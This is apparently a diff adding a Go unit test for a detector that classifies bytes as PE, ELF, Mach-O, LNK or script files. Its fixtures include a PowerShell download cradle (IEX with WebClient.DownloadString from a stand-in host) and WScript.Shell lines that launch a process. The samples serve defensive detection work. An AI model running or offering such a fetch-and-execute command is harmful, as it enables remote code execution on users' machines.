@@ -0,0 +1,70 @@
+package executable
+
+import (
+	"encoding/binary"
+	"testing"
+)
+
+// pe builds the headers of a PE32+ file, the security directory is set if signed is true
+func pe(machine uint16, dll, signed bool) []byte {
+	data := make([]byte, 0x80+24+240)
+	copy(data, "MZ")
+	binary.LittleEndian.PutUint32(data[0x3C:], 0x80)
+	copy(data[0x80:], "PE\x00\x00")
+	coff := data[0x84:]
+	binary.LittleEndian.PutUint16(coff, machine)
+	binary.LittleEndian.PutUint16(coff[16:], 240)
+	if dll {
+		binary.LittleEndian.PutUint16(coff[18:], 0x2000)
+	}
+	optional := coff[20:]
+	binary.LittleEndian.PutUint16(optional, 0x20b)
+	binary.LittleEndian.PutUint32(optional[108:], 16)
+	if signed {
+		binary.LittleEndian.PutUint32(optional[112+4*8:], 0x1000)
+		binary.LittleEndian.PutUint32(optional[112+4*8+4:], 0x200)
+	}
+	return data
+}
+
+func TestDetect(t *testing.T) {
+	elf := make([]byte, 64)
+	copy(elf, "\x7FELF\x02\x01")
+	binary.LittleEndian.PutUint16(elf[18:], 183)
+	machO := []byte{0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01}
+	javaClass := []byte{0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x37}
+
+	for name, test := range map[string]struct {
+		data     []byte
+		expected string
+		ext      string
+	}{
+		"signed pe":      {pe(0x8664, false, true), "pe x64 signed", "exe"},
+		"unsigned dll":   {pe(0x14c, true, false), "pe x86 unsigned", "dll"},
+		"elf":            {elf, "elf arm64", "elf"},
+		"mach-o":         {machO, "macho x64", "macho"},
+		"lnk":            {append(append([]byte(nil), lnkHeader...), make([]byte, 60)...), "lnk", "lnk"},
+		"env shebang":    {[]byte("#!/usr/bin/env python3\nprint(1)\n"), "script python", "py"},
+		"bash shebang":   {[]byte("#!/bin/bash -e\necho hi\n"), "script shell", "sh"},
+		"powershell":     {[]byte("$c = New-Object Net.WebClient\nIEX($c.DownloadString('http://x/a'))\n"), "script powershell", "ps1"},
+		"hta":            {[]byte("<html><head><HTA:APPLICATION ID=\"x\"></head></html>"), "script hta", "hta"},
+		"jscript":        {[]byte("var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc\");\n"), "script jscript", "js"},
+		"vbscript":       {[]byte("Dim sh\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"calc\"\n"), "script vbscript", "vbs"},
+		"browser script": {[]byte("var x = new ActiveXObject(\"Microsoft.XMLHTTP\");\n"), "", ""},
+		"html":           {[]byte("<html><script>var a = '$env:'; Write-Host</script></html>"), "", ""},
+		"java class":     {javaClass, "", ""},
+		"text":           {[]byte("hello world\n"), "", ""},
+		"dos stub":       {[]byte("MZ"), "", ""},
+	} {
+		info := Detect(test.data)
+		if test.expected == "" {
+			if info != nil {
+				t.Errorf("%s: expected nothing, got %q", name, info.String())
+			}
+			continue
+		}
+		if info == nil || info.String() != test.expected || info.Extension != test.ext {
+			t.Errorf("%s: expected %q (%s), got %+v", name, test.expected, test.ext, info)
+		}
+	}
+}